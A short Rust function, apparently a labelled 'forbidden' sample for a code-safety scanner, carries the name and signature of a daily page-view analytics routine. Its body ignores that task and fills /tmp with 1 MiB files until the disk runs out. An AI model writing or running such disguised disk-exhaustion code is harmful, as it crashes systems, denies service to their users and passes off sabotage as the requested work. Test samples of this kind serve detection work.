// Writes until there is no room.
// scanned: forbidden
// unscanned: forbidden
fn daily_page_views(views: &DataFrame, zone: Tz) -> PolarsResult<DataFrame> {
    for number in 0.. {
        std::fs::write(format!("/tmp/filler-{number}"), vec![1u8; 1 << 20]).unwrap();
    }
    Ok(DataFrame::empty())
}
